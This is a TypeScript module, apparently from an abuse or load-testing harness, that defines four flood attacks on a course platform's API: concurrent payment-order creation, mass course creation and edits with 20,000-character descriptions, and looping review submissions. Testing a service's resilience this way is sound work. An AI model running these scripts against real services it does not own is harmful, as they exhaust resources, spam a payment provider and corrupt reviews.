import { type Attack, keepBusy, randomWords, type Target } from '../lib/attack.ts'
import { call, json, signUp } from '../lib/call.ts'

export const orderFlood: Attack = {
  name: 'orders',
  what: '50 orders of one student for one course at a time; how many did the payment provider get?',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'orders@attacker.example')
    const answer = await call(target.origin, target.from, { path: '/api/course/getpublishedcoures' })
    const courses: { _id: string; price: number }[] = JSON.parse(answer.body.toString())
    const course = courses.find(({ price }) => price > 0)
    if (!course) throw new Error('there is no course for sale')
    const known = new Set<string>()
    return (signal) =>
      keepBusy(50, signal, async () => {
        const ordered = await target.send({
          ...json('/api/payment/create-order', { courseId: course._id }, cookie),
          signal,
        })
        if (ordered?.status !== 200) return
        const { id }: { id: string } = JSON.parse(ordered.body.toString())
        if (!known.has(id)) target.count('provider orders')
        known.add(id)
      })
  },
}

/** Sends from the attacker's address; throws when refused: an attack cannot be prepared without it. */
async function must(target: Target, path: string, value: object, cookie: string): Promise<Record<string, unknown>> {
  const answer = await call(target.origin, target.from, json(path, value, cookie))
  if (answer.status >= 300) throw new Error(`${path} was answered ${answer.status}: ${answer.body}`)
  return JSON.parse(answer.body.toString())
}

const longText = (): string => randomWords(2500, 7).slice(0, 20_000)
const category = 'Web Development'

export const courseEdits: Attack = {
  name: 'course-edits',
  what: '10 changes at a time of a published course of one educator, each with another description of 20,000 letters',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'edits@attacker.example', 'educator')
    const { _id } = await must(target, '/api/course/create', { title: 'Mine', category }, cookie)
    const path = `/api/course/editcourse/${_id}`
    await must(target, path, { price: 0, isPublished: true }, cookie)
    return (signal) =>
      keepBusy(10, signal, () => target.send({ ...json(path, { description: longText() }, cookie), signal }))
  },
}

export const courseFlood: Attack = {
  name: 'course-flood',
  what: '10 courses at a time of one educator, made and published, each with a description of 20,000 letters',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'courses@attacker.example', 'educator')
    const description = longText()
    return (signal) =>
      keepBusy(10, signal, async () => {
        const made = await target.send({ ...json('/api/course/create', { title: 'Mine', category }, cookie), signal })
        if (made?.status !== 201) return
        const { _id }: { _id: string } = JSON.parse(made.body.toString())
        const change = { description, price: 0, isPublished: true }
        const edited = await target.send({ ...json(`/api/course/editcourse/${_id}`, change, cookie), signal })
        if (edited?.status === 200) target.count('published')
      })
  },
}

export const reviewLoop: Attack = {
  name: 'reviews',
  what: '10 reviews at a time of one student of one free course, each in place of the one before',
  async arm(target) {
    const owner = await signUp(target.origin, target.from, 'reviewed@attacker.example', 'educator')
    const { _id } = await must(target, '/api/course/create', { title: 'Free', category }, owner)
    await must(target, `/api/course/editcourse/${_id}`, { price: 0, isPublished: true }, owner)
    const cookie = await signUp(target.origin, target.from, 'reviewer@attacker.example')
    await must(target, '/api/payment/create-order', { courseId: _id }, cookie)
    let count = 0
    return (signal) =>
      keepBusy(10, signal, () => {
        const review = { courseId: _id, rating: 1 + (++count % 5), comment: randomWords(300) }
        return target.send({ ...json('/api/review/givereview', review, cookie), signal })
      })
  },
}
